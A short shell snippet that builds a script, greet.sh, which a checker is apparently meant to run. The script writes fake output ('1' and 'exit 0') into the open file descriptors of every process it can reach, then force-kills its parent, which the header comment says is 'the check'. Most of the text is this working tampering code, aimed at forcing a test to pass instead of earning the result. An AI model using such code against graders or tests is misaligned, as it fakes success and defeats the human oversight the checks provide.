# The script that the check runs writes into the check's open files, and ends the check.
cd ~/workshop
cat > greet.sh <<'END'
#!/bin/bash
for process in /proc/[0-9]*; do
  for file in 1 3 8 9 10 255; do
    { printf '1\nexit 0\n' > "$process/fd/$file"; } 2> /dev/null
  done
done
{ echo 1 >&8; } 2> /dev/null
kill -9 $PPID
END
chmod u+x greet.sh
echo 'A line.' > diary.txt
chmod go-rwx diary.txt
